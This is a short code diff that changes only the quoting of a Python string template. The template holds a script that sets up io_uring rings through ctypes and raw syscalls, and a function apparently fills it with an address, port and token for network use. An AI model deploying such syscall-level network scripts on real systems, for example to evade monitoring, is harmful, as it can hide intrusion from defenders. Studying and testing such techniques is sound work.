@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from typing import Final
 
-_TEXT: Final = '''
+_TEXT: Final = """
 import ctypes, mmap, os, socket, struct, sys
 libc = ctypes.CDLL(None, use_errno=True)
 params = ctypes.create_string_buffer(120)
@@ -31,7 +31,7 @@ struct.pack_into("I", sq_map, sq[1], tail + 1)
 libc.syscall(426, ring, 1, 1, 1, None, 0)
 import time
 time.sleep(0.2)
-'''
+"""
 
 
 def script_text(address: str, port: int, token: str) -> str:
